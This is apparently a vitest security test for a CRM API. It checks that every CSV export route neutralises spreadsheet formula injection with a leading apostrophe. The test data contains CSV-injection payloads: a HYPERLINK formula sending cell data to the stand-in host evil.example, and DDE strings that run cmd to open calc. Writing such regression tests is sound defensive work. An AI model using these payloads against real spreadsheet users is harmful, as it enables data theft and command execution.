import type { App } from '@crm/http';
import { parse } from 'csv-parse/sync';
import { beforeAll, describe, expect, it } from 'vitest';
import { call, createTestApp, type SignedUpTenant, signUpTenant } from '../support/test-app.js';

/**
 * Finding 4 of issue 17 and its class: no CSV this API lets a user download may carry a cell that
 * a spreadsheet runs as a formula (OWASP "CSV Injection"). The routes are taken from the route
 * table (every route answering text/csv), so a new export joins the suite by itself.
 */

/** What Excel, LibreOffice and Google Sheets treat as the start of a formula (and full-width forms). */
const FORMULA_START = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;

const payloads = {
  name: '=HYPERLINK("http://evil.example/?d="&A1,"open")',
  industry: '+cmd|" /C calc"!A0',
  tags: ['@SUM(1+1)*cmd|" /C calc"!A0', '-2+3', '＝1+1'],
  phone: '+86 138 0000 0000',
};

function csvRoutes(app: App): { method: string; path: string }[] {
  return app.openAPIRegistry.definitions
    .filter((definition) => definition.type === 'route')
    .map((definition) => (definition as { route: RouteConfig }).route)
    .filter((route) =>
      Object.values(route.responses ?? {}).some((response) => 'text/csv' in (response.content ?? {})),
    )
    .map((route) => ({ method: route.method.toUpperCase(), path: route.path }));
}
type RouteConfig = {
  method: string;
  path: string;
  responses?: Record<string, { content?: Record<string, unknown> }>;
};

describe('CSV exports and formula injection', () => {
  const app = createTestApp();
  let owner: SignedUpTenant;

  beforeAll(async () => {
    owner = await signUpTenant(app, '=Formula Tenant');
    const created = await call(app, 'POST', '/v1/customers', {
      auth: owner.auth,
      body: { kind: 'business', ...payloads },
    });
    expect(created.status).toBe(201);
  });

  it('finds the customer export in the route table', () => {
    expect(csvRoutes(app)).toContainEqual({ method: 'GET', path: '/v1/customers/export' });
  });

  it('never emits a cell that starts a formula, on any CSV route', async () => {
    const routes = csvRoutes(app);
    for (const route of routes) {
      // A CSV route with path parameters needs ids this suite does not make yet: add them here.
      expect(route.path, `${route.method} ${route.path}`).not.toMatch(/\{/);
      const response = await app.request(route.path, { method: route.method, headers: owner.auth });
      expect(response.status, `${route.method} ${route.path}`).toBe(200);
      const cells = (
        parse(await response.text(), { bom: true, relax_column_count: true }) as string[][]
      ).flat();
      const dangerous = cells.filter((cell) => FORMULA_START.test(cell));
      expect(dangerous, `${route.method} ${route.path}`).toEqual([]);
      // The payloads are there, neutralised with a leading apostrophe: the check above saw them.
      expect(cells).toContain(`'${payloads.name}`);
      expect(cells).toContain(`'${payloads.industry}`);
      expect(cells).toContain(`'${payloads.phone}`);
      expect(cells).toContain(`'${payloads.tags.join(';')}`);
    }
  });
});
